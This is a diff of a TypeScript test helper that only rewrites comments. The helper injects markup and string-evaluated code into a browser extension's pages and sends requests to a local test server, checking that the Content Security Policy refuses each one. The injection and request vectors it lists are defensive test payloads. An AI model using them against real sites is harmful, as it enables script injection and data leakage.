@@ -1,20 +1,20 @@
-/** What somebody would try who can write markup into a page of ours, or run a script there. */
+/** Attacks by someone who can write markup or run scripts in an extension page. */
 import { expect } from "./fixtures.ts";
 
 export interface Attacked {
-  /** Those whose code has run. */
+  /** Names of attacks whose code ran. */
   readonly ran: readonly string[];
-  /** What the policy has refused: "img-src http://127.0.0.1:8080/img". */
+  /** Policy violations: "img-src http://127.0.0.1:8080/img". */
   readonly refused: readonly string[];
 }
 
-/** Runs in the page that was attacked, and sees nothing outside itself: what has come until now. A browser may refuse late. */
+/** Runs in the attacked page: returns the results so far, as violations may be reported late. */
 export const attackedSoFar = (): Attacked => (globalThis as unknown as { attacked: Attacked }).attacked;
 
 /**
- * Runs in a page of ours, and sees nothing outside itself. `host`: of a server that waits for requests. Each attack asks for a path with its
- * name. `isConnecting`: instead those by which a browser may connect to a host before it looks at the policy, or without: Chromium does for frames
- * and forms, and no policy is about WebRTC or about connections that are made ahead.
+ * Runs in an extension page, without outer variables. Each attack requests a path with its name from `host`.
+ * `isConnecting` selects attacks that may connect before, or regardless of, the policy: Chromium connects early for
+ * frames and forms, and CSP covers neither WebRTC nor preconnections.
  */
 export async function attackPage({
   host,
@@ -31,14 +31,14 @@ export async function attackPage({
   document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
     refused.push(`${effectiveDirective} ${blockedURI}`),
   );
-  // What a debugger evaluates may evaluate in turn, until its own turn is over.
+  // Code evaluated by a debugger may use eval during its first task, so this waits for the next one.
   await new Promise((resolve) => setTimeout(resolve, 0));
   const at = (name: string) => `http://${host}/${name}`;
   const add = (markup: string) => {
     const box = document.createElement("div");
-    // The way in that all of this is about; ours never makes markup of strings.
+    // The injection under test.
     box.innerHTML = markup;
-    // Markup that is set as text runs no scripts: those are made anew, as a script would.
+    // Scripts in innerHTML never run, so they are recreated.
     for (const old of box.querySelectorAll("script")) {
       const script = document.createElement("script");
       for (const { name, value } of old.attributes) script.setAttribute(name, value);
@@ -58,7 +58,7 @@ export async function attackPage({
   const blob = (text: string) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
   const run = (name: string, code: (text: string) => unknown) => code(js(name));
   const attacks: (() => unknown)[] = [
-    // Code from strings.
+    // Code from strings
     () => run("eval", (code) => (global.eval as (code: string) => unknown)(code)),
     () => run("Function", (code) => new Function(code)()),
     () => run("setTimeout", (code) => (setTimeout as (code: string) => number)(code)),
@@ -85,7 +85,7 @@ export async function attackPage({
       await WebAssembly.compile(new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]));
       ran.push("WebAssembly");
     },
-    // Chromium starts a worker of a blob of ours, whatever the policy says; what that may do is no more than the page may.
+    // Chromium starts workers from our blobs despite the policy; they may do no more than the page.
     () => {
       const code = `try { eval("postMessage(1)") } catch {}
         try { importScripts("${at("worker-import")}") } catch {}
@@ -95,7 +95,7 @@ export async function attackPage({
     () => {
       new Worker("data:text/javascript,postMessage(1)").onmessage = () => ran.push("worker of data");
     },
-    // Requests by scripts.
+    // Requests by scripts
     () => fetch(at("fetch")),
     () => fetch(at("no-cors"), { mode: "no-cors", method: "POST", body: "a" }),
     () => fetch(at("keepalive"), { keepalive: true, mode: "no-cors" }),
@@ -115,7 +115,7 @@ export async function attackPage({
     () => new FontFace("attack", `url(${at("fontface-load")})`).load(),
     () => new Image().setAttribute("src", at("image")),
     () => new Audio(at("sound")).load(),
-    // Requests by markup.
+    // Requests by markup
     () => add(`<script src="${at("script")}"></script><script type="module" src="${at("module")}"></script>`),
     () => add(`<img src="${at("img")}"><img srcset="${at("srcset")} 2x"><input type="image" src="${at("input")}">`),
     () => add(`<picture><source srcset="${at("picture")}"><img></picture>`),
@@ -161,7 +161,7 @@ export async function attackPage({
       add(
         `<iframe src="${at("iframe")}"></iframe><object data="${at("object")}"></object><embed src="${at("embed")}">`,
       ),
-    // Each in a frame, or the next would take its place.
+    // One frame per form, or the next submission would cancel the previous one.
     () => add(`<iframe name="a"></iframe><form action="${at("form")}" target="a" method="post"></form>`),
     () => add(`<iframe name="b"></iframe><form action="${at("form-get")}" target="b"></form>`),
     () => document.querySelectorAll<HTMLFormElement>("form[target]").forEach((form) => void form.submit()),
@@ -175,27 +175,30 @@ export async function attackPage({
     try {
       await Promise.race([attack(), new Promise((resolve) => setTimeout(resolve, 40))]);
     } catch {
-      // Refused at once.
+      // Refused synchronously.
     }
   }
   await new Promise((resolve) => setTimeout(resolve, 500));
 }
 
-/** The paths that the attacks ask for. Other sites' workers and parts of drawings no page may have, with or without a policy. */
+/**
+ * Returns the requested paths, except those of cross-origin workers and `<use>`, which browsers refuse without a
+ * policy.
+ */
 export const asksFor = (): string[] =>
   [...`${attackPage}`.matchAll(/at\("([a-z-]+)"\)/g)]
     .map(([, name = ""]) => name)
     .filter((name) => !["worker", "shared-worker", "service-worker", "svg-use", "transport"].includes(name));
 
-/** Of the policy, what an attack of a page meets in any browser; which more, they call differently. */
+/** Violated directives that browsers report alike; names of others differ. */
 export const REFUSING = ["script-src", "style-src", "img-src", "connect-src", "media-src", "base-uri"];
 
-/** The same where it connects. */
+/** Violated directives of the connecting attacks. */
 export const REFUSING_CONNECTIONS = ["frame-src", "object-src", "form-action"];
 
 /**
- * That the policy has refused something for each of these reasons, and more than `more` times in all: or nothing was tried. A browser that is busy
- * says so late. Gives what has run by then.
+ * Expects a violation of each directive and more than `more` in all, which proves that the attacks ran. Busy browsers
+ * report late. Returns the names of attacks whose code ran.
  */
 export async function expectRefused(
   soFar: () => Promise<Attacked>,
@@ -208,12 +211,12 @@ export async function expectRefused(
   return (await soFar()).ran;
 }
 
-/** Runs in the worker, or in a page that has Firefox's background page: `global`. */
+/** Runs in the worker, or in a page with `global` of Firefox's background page. */
 export async function attackBackground({ host }: { host: string }, global: typeof globalThis = globalThis) {
   const ran: string[] = [];
   const own = global as unknown as Record<string, (text: string) => unknown> & { ran: (name: string) => void };
   own.ran = (name) => ran.push(name);
-  // What a debugger evaluates may evaluate in turn, until its own turn is over.
+  // See `attackPage`.
   await new Promise((resolve) => setTimeout(resolve, 0));
   const at = (name: string) => `http://${host}/${name}`;
   const attacks: (() => unknown)[] = [
@@ -239,7 +242,7 @@ export async function attackBackground({ host }: { host: string }, global: typeo
     try {
       await Promise.race([attack(), new Promise((resolve) => setTimeout(resolve, 40))]);
     } catch {
-      // Refused at once.
+      // Refused synchronously.
     }
   }
   await new Promise((resolve) => setTimeout(resolve, 500));
